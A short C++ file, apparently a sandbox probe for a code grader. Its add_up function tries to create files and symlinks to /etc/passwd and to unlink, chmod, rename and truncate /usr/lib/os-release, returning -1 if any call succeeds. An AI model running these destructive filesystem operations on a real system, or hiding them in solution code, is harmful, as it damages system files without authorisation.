// Makes, changes and removes.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>

static long long solve(const std::vector<long long>& values) {
  long long sum = 0;
  for (const long long value : values) sum = (sum + value * value) % 1000003;
  return sum;
}

long long add_up(const std::vector<long long>& values) {
  bool got = false;

  for (const char* path : {"/tmp/effk-attack", "/var/tmp/effk-attack", "/dev/shm/effk-attack", "effk-attack", "/effk-attack"}) {
    got |= open(path, O_WRONLY | O_CREAT, 0600) >= 0;
    got |= mkdir(path, 0700) == 0;
    got |= symlink("/etc/passwd", path) == 0;
  }
  got |= open("/tmp", O_TMPFILE | O_RDWR, 0600) >= 0;
  got |= unlink("/usr/lib/os-release") == 0;
  got |= chmod("/usr/lib/os-release", 0) == 0;
  got |= rename("/usr/lib/os-release", "/usr/lib/os") == 0;
  got |= truncate("/usr/lib/os-release", 0) == 0;
  got |= chdir("/") == 0;
  if (got) return -1;
  return solve(values);
}
